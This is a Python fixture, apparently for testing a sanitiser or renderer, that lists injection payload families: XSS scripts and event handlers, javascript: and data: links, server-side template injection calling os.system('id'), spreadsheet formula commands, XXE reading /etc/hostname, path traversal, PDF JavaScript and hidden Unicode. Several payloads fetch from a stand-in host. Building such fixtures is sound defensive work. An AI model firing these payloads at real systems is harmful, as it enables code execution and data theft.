"""What somebody could write into a circuit so that another place takes it for its own language.

Each family is a text. What of it runs sets ``struck`` in its page; what of it is fetched lies under ``AWAY``; what of
it is read is ``SECRET``. Control characters and the like are among them: a reader that refuses them has held.
"""

ADDRESS = "https://exemple.fr/jeux"  # where the kits will be on line
AWAY = "http://away.invalid"
SECRET = "/etc/hostname"
RUN = "globalThis.struck=1"

FAMILIES: dict[str, str] = {
    "script": f"<script>{RUN}</script><script src={AWAY}/s.js></script>",
    "handler": f"<img src=x onerror={RUN}><svg onload={RUN}><body onload={RUN}>",
    "attribute": f"\" onmouseover=\"{RUN}\" autofocus onfocus='{RUN}' x='",
    "javascript address": f"<a href=javascript:{RUN}>x</a><iframe src='javascript:{RUN}'>",
    "data address": f"<a href='data:text/html,<script>{RUN}</script>'>x</a><embed src=data:text/html,x>",
    "other schemes": f"vbscript:{RUN} <a href='JaVaScRiPt&colon;{RUN}'>x</a> livescript:x",
    "end of script": f"</script><script>{RUN}</script>",
    "end of other elements": f"</style></title></textarea></noscript></template><script>{RUN}</script>",
    "end of comment": f"--><script>{RUN}</script><!-- --!>",
    "end of CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "template": "{{ 7*7 }}{% include '/etc/hostname' %}{# x #}{{ cycler.__init__.__globals__.os.system('id') }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> [[7*7]] {0.__class__} %(x)s %s {x}",
    "foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    "use and image": f"<svg><use href='{AWAY}/u.svg#x'/><image href='{AWAY}/i.png'/></svg>",
    "animate": f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text>x</text></a><set onbegin={RUN}>",
    "style": f"<style>*{{background:url({AWAY}/b.png)}}</style><p style='background:url({AWAY}/c)'>",
    "import of styles": f"</style><style>@import '{AWAY}/i.css';</style>; }} * {{ content: url({AWAY}/d) }}",
    "expression": f"expression({RUN}) -moz-binding:url({AWAY}/x#y) behavior:url(x.htc) \\3c script",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt; &#x3c;i>",
    "double encoding": "%3Cscript%3E %253Cscript%253E %00 %0d%0aLocation:%20x &amp;amp;lt; \\u003cscript\\u003e",
    "wide letters": f"＜script＞{RUN}＜/script＞ ﹤img src=x onerror={RUN}﹥ ʺ onload=x",
    "separators": f"\u2028{RUN}\u2029;{RUN}//\u0085x",
    "hidden letters": "\u202ecod.exe\u202c \u2066x\u2069 \ufeffa\u200bb\u00adc\u2060d",
    "JSON": '"},{"struck":1}];globalThis.struck=1;[{"a":"\\',
    "names of prototypes": "__proto__ constructor prototype toString hasOwnProperty valueOf __defineGetter__",
    "file addresses": f"<iframe src=file://{SECRET}></iframe> file://{SECRET} \\\\away.invalid\\share\\x.png",
    "attachment": f"<link rel=attachment href='file://{SECRET}' title=x><object data='file://{SECRET}'></object>",
    "formula": f'=HYPERLINK("{AWAY}","x") +cmd|\'/C calc\'!A0 @SUM(1) -2+3',
    "XML entity": f"<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{SECRET}'>]><x>&e;</x><?xml-stylesheet href='{AWAY}/x'?>",
    "paths": f"../../../..{SECRET} ..\\..\\x C:\\x ~root /dev/stdin a/../../b .git/config",
    "PDF": f"(x) Tj) /JS (app.alert(1)) /OpenAction << /S /JavaScript >> endstream endobj ET /URI ({AWAY})",
    "marks": f"[x](javascript:{RUN}) ![x]({AWAY}/m.png) [[x|y]] {{{{x}}}} `x` <{AWAY}> # x | y | *z*",
    "escapes": "\\x1b[31m \u001b[2J\u001b]8;;http://away.invalid\u0007x\u001b]8;;\u0007 [bold]x[/foo]",
    "long word": "W" * 120,
    "refresh and base": f"<meta http-equiv=refresh content='0;url={AWAY}/r'><base href='{AWAY}/'>"
    f"<link rel=import href={AWAY}>",
    "srcdoc and form": f"<iframe srcdoc='<script>parent.struck=1</script>'></iframe><form action={AWAY}>"
    f"<button formaction=javascript:{RUN}>",
    "preloads": f"<link rel=stylesheet href={AWAY}/p.css><link rel=prefetch href={AWAY}>"
    f"<video poster={AWAY}/v><audio src={AWAY}>",
}
